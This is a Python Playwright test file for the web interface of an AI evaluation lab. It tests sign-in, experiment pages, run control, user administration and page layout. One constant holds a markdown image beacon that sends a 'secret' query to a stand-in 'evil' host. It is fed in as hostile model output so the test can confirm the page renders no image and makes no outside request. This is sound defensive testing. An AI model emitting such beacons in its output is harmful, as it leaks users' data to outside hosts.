"""The team server's pages in a real Chromium, signed in as a person signs in.

Its pictures are for a person to look at: tests/screenshots, not in git.
"""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect
from servers.acted import ActedServer
from servers.contrast import faint, texts_of
from servers.markup import SCRIPTS
from servers.team import PASSWORD, TeamServer
from sqlalchemy import update

import aistrale_lab as lab
from aistrale_lab.domain.chat import GenerateConfig
from aistrale_lab.domain.tasks import Dataset, Sample
from aistrale_lab.settings import Settings
from aistrale_lab.store.reading import RUNS

FOLDER = Path(__file__).parents[1] / "screenshots"
QUESTIONS = Path(__file__).parents[2] / "datasets" / "skills.jsonl"
MODELS = ["embedded/small", "embedded/mini", "embedded/constant"]
BEACON = "![](http://evil/?q=secret)"
ARABIC = "ما هي العاصمة."
LONG = "Supercalifragilistic" * 15
PATIENCE = 120_000
"""Milliseconds: a busy machine computes a report in a minute."""

pytestmark = pytest.mark.timeout(300)


@pytest.fixture(scope="module")
def acted() -> Iterator[ActedServer]:
    """A provider whose models are parts to be acted."""
    with ActedServer() as provider:
        yield provider


@pytest.fixture(scope="module")
def team(
    tmp_path_factory: pytest.TempPathFactory, acted: ActedServer
) -> Iterator[TeamServer]:
    """A server over a true experiment, and one of hostile texts."""
    url = f"sqlite:///{tmp_path_factory.mktemp('team')}/store.db"
    own = {"openai_base_url": acted.base_url, "openai_api_key": "sk-test"}
    with (
        lab.Lab.open(url, settings=Settings(**own)) as bench,
        TeamServer(bench) as server,
    ):
        questions = lab.load_dataset(QUESTIONS, limit=60)
        task = lab.Task(dataset=questions, scorers=["exact", "similarity"])
        bench.start(task, MODELS, name="Arithmetic").wait(100)
        said = (*SCRIPTS, BEACON, ARABIC, LONG)
        samples = tuple(Sample(id=t, input=t, target=t, group=t) for t in said)
        texts = Dataset(name=SCRIPTS[0], samples=samples)
        hostile = lab.Task(dataset=texts, scorers=["exact"])
        bench.start(hostile, ["embedded/echo", "embedded/constant"]).wait(60)
        for name in ("ann", "bob"):
            server.add_user(name)
        server.add_user("root", "admin")
        yield server


class Visit:
    """A browser of a person; at the end nothing may have gone wrong in it."""

    def __init__(self, context: BrowserContext, team: TeamServer) -> None:
        self.team = team
        self.said: list[str] = []
        self.asked: list[str] = []
        context.on("console", lambda message: self.said.append(message.text))
        context.on("weberror", lambda raised: self.said.append(str(raised.error)))
        context.on("request", lambda request: self.asked.append(request.url))
        self.page: Page = context.new_page()

    def open(self, path: str) -> Page:
        self.page.goto(f"{self.team.url}{path}")
        return self.page

    def again(self, path: str) -> Page:
        """Another page of the same browser."""
        page = self.page.context.new_page()
        page.goto(f"{self.team.url}{path}")
        return page

    def sign_in(self, name: str) -> Page:
        self.page.get_by_label("Name").fill(name)
        self.page.get_by_label("Password").fill(PASSWORD)
        self.page.get_by_role("button", name="Sign in").click()
        return self.page

    def check(self) -> None:
        own = (f"{self.team.url}/", "data:image/svg+xml;base64,", "data:,")
        assert [url for url in self.asked if not url.startswith(own)] == []
        assert self.said == []


@pytest.fixture
def visit(browser: Browser, team: TeamServer) -> Iterator[Any]:
    """Makes visits, of whatever colours and width."""
    made: list[tuple[BrowserContext, Visit]] = []

    def make(width: int = 1280, scheme: Any = "light") -> Visit:
        size = {"width": width, "height": 900}
        context = browser.new_context(viewport=size, color_scheme=scheme)
        context.set_default_timeout(PATIENCE)
        expect.set_options(timeout=PATIENCE)
        made.append((context, Visit(context, team)))
        return made[-1][1]

    yield make
    for context, one in made:
        context.close()
        one.check()


def test_from_signing_in_to_signing_out(team: TeamServer, visit: Any) -> None:
    one = visit()
    page = one.open("/account")
    expect(page).to_have_title("Sign in · AISTRALE Lab")

    one.sign_in("ann")
    expect(page.get_by_role("heading", level=1)).to_have_text("ann")
    page.get_by_role("link", name="Experiments").click()
    page.get_by_role("link", name="Arithmetic").click()
    expect(page.get_by_role("heading", name="Leaderboard")).to_be_visible()
    expect(page.locator("#leaderboard img").first).to_be_visible()

    page.get_by_role("button", name="Compare").click()
    expect(page.get_by_role("heading", name="Differences")).to_be_visible()
    page.get_by_role("link", name="all", exact=False).last.click()
    page.locator(".card a").first.click()
    expect(page.get_by_role("heading", name="The call")).to_be_visible()
    page.locator(".trail a").last.click()
    page.get_by_label("Search").fill("add")
    page.get_by_role("button", name="Apply").click()
    expect(page.get_by_role("status")).to_contain_text("filtered from 60")
    first, second = (page.locator("tbody a").nth(n).inner_text() for n in (0, 1))
    page.locator("tbody a").first.click()
    page.get_by_role("link", name="Next").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(f"Sample {second}")
    page.keyboard.press("ArrowLeft")
    expect(page.get_by_role("heading", level=1)).to_have_text(f"Sample {first}")
    page.locator(".trail a").last.click()
    expect(page.get_by_label("Search")).to_have_value("add")

    page.get_by_role("button", name="Sign out").click()
    expect(page).to_have_title("Sign in · AISTRALE Lab")
    one.open("/experiments")
    expect(page).to_have_title("Sign in · AISTRALE Lab")


def test_what_models_say_does_nothing_in_a_browser(
    team: TeamServer, visit: Any
) -> None:
    """S1, S39: nothing runs, and nothing is asked of another host."""
    one = visit()
    hostile = next(r for r in team.bench.runs() if r.model == "embedded/echo")
    one.open(f"/experiments/{hostile.experiment_id}?whole=1")
    page = one.sign_in("ann")

    expect(page.get_by_role("heading", name="Provenance")).to_be_visible()
    one.open(f"/runs/{hostile.id}")
    page.get_by_role("link", name=BEACON).click()
    expect(page.locator("pre", has_text="http://evil/?q=secret").first).to_be_visible()
    assert page.locator("img, iframe").count() == 0


def test_texts_run_the_way_of_their_script_and_long_names_leave_room(
    team: TeamServer, visit: Any
) -> None:
    hostile = next(r for r in team.bench.runs() if r.model == "embedded/echo")
    one = visit(800)
    one.open(f"/experiments/{hostile.experiment_id}?whole=1")
    page = one.sign_in("ann")

    row = page.locator("tbody tr", has_text=LONG[:99]).first
    assert right_of(row.get_by_role("cell").last) < 800
    only = re.compile(rf"^\s*{ARABIC}\s*$")
    for path in (f"/runs/{hostile.id}", f"/runs/{hostile.id}/sample?id={ARABIC}"):
        one.open(path)
        texts = page.locator("td, pre").filter(has_text=only, visible=True)
        assert texts.count() > 1
        for text in texts.all():
            first, stop = text.evaluate(ENDS)
            assert stop < first


ENDS = """(node) => [0, node.textContent.trim().length - 1].map((at) => {
  const range = document.createRange();
  const text = node.firstChild;
  const from = text.textContent.indexOf(node.textContent.trim()) + at;
  range.setStart(text, from);
  range.setEnd(text, from + 1);
  return range.getBoundingClientRect().left;
})"""
"""Where the first and the last letter of an element begin, from the left."""


def right_of(shown: Locator) -> float:
    """Its right edge, from the page's left."""
    box = shown.bounding_box()
    assert box
    return box["x"] + box["width"]


def test_a_page_follows_its_runs_to_their_end(team: TeamServer, visit: Any) -> None:
    run = next(r for r in team.bench.runs() if r.name == "Arithmetic")
    set_run(team, run.id, status="running", planned=90)
    one = visit()
    one.open(f"/experiments/{run.experiment_id}")
    page = one.sign_in("ann")

    expect(page.locator(".lane").last).to_contain_text("60 of 90 · running")
    expect(page.locator("#leaderboard")).to_have_count(0)
    set_run(team, run.id, planned=80)
    expect(page.locator(".lane").last).to_contain_text("60 of 80 · running")
    set_run(team, run.id, status="completed", planned=60)
    expect(page.locator("#progress")).to_have_count(0)
    expect(page.get_by_role("heading", name="Leaderboard")).to_be_visible()


def set_run(team: TeamServer, run_id: str, **columns: Any) -> None:
    """What another process stores of a run that it executes."""
    changed = update(RUNS).where(RUNS.c.id == run_id).values(**columns)
    team.bench.store.recorder.call(lambda c: c.execute(changed)).result()


def test_a_run_is_stopped_resumed_and_shared_by_whose_it_is(
    team: TeamServer, visit: Any, acted: ActedServer
) -> None:
    users = {user.name: user for user in team.app.state.accounts.list()}
    samples = tuple(Sample(id=f"q{n}", input=f"{n} + {n}") for n in range(3))
    config = GenerateConfig(max_tokens=9)
    task = lab.Task(dataset=Dataset(name="sums", samples=samples), config=config)
    models = ["openai/right", "openai/stuck"]
    started = team.bench.start(task, models, owner=users["ann"].id)
    path = f"/experiments/{started.experiment_id}"
    one = visit()
    one.open(path)
    page = one.sign_in("ann")
    page.on("dialog", lambda dialog: dialog.accept())

    expect(page.locator(".lane").last).to_contain_text("0 of 3 · running")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_role("button", name="Resume")).to_be_visible()
    assert started.wait(60).runs[1].status == "interrupted"
    expect(page.locator(".lane")).to_have_count(0)
    page.get_by_role("button", name="Share with the team").click()
    expect(page.get_by_text("Shared with the team")).to_be_visible()

    late = one.again(path)
    page.get_by_role("button", name="Resume").click()
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    late.get_by_role("button", name="Resume").click()
    expect(late.get_by_role("alert")).to_contain_text("is being executed already")
    other = visit()
    other.open(path)
    other.sign_in("bob")
    expect(other.page.get_by_text("Shared with the team")).to_be_visible()
    expect(other.page.locator(".steering button")).to_have_count(0)
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_role("button", name="Resume")).to_be_visible()
    one.said = [text for text in one.said if "409" not in text]  # the refused one


def test_an_admin_makes_a_user_who_signs_in(team: TeamServer, visit: Any) -> None:
    chief, new = visit(), visit()
    chief.open("/users")
    page = chief.sign_in("root")
    page.get_by_label("Name").fill("carl")
    page.get_by_role("button", name="Add the user").click()
    password = page.locator(".notice code").inner_text()

    other = new.open("/")
    other.get_by_label("Name").fill("carl")
    other.get_by_label("Password").fill(password)
    other.get_by_role("button", name="Sign in").click()
    expect(other.get_by_role("heading", level=1)).to_have_text("Experiments")

    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("row", name="carl").get_by_role("button", name="Disable").click()
    expect(page.get_by_role("row", name="carl")).to_contain_text("disabled")
    other.reload()
    expect(other).to_have_title("Sign in · AISTRALE Lab")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 800])
def test_nothing_is_faint_or_wider_than_the_page(
    team: TeamServer, visit: Any, scheme: str, width: int
) -> None:
    FOLDER.mkdir(exist_ok=True)
    runs = [run for run in team.bench.runs() if run.name == "Arithmetic"]
    sample = team.bench.experiment(runs[0].experiment_id).task.dataset.samples[0].id
    places = {
        "sign-in": "/sign-in",
        "experiments": "/experiments",
        "experiment": f"/experiments/{runs[0].experiment_id}?whole=1",
        "run": f"/runs/{runs[0].id}",
        "sample": f"/runs/{runs[0].id}/sample?id={sample}",
        "compare": f"/compare?baseline={runs[2].id}&candidate={runs[1].id}",
        "account": "/account",
        "users": "/users",
        "error": "/experiments/nothing",
    }
    one = visit(width, scheme)
    one.open("/experiments")
    page = one.sign_in("root")
    expect(page.get_by_role("heading", level=1)).to_have_text("Experiments")
    for name, path in places.items():
        one.open(path)

        page.screenshot(
            path=FOLDER / f"server-{name}-{scheme}-{width}.png", full_page=True
        )
        wide = "document.documentElement.scrollWidth > document.documentElement.clientWidth"
        assert not page.evaluate(wide), name
        seen = texts_of(page.locator("body"))
        assert faint(seen) == [], name
        page.locator("h1").evaluate("(node) => (node.style.color = 'var(--line)')")
        assert faint(texts_of(page.locator("h1"))) != [], name
    one.said = [text for text in one.said if "404" not in text]  # the last page is one
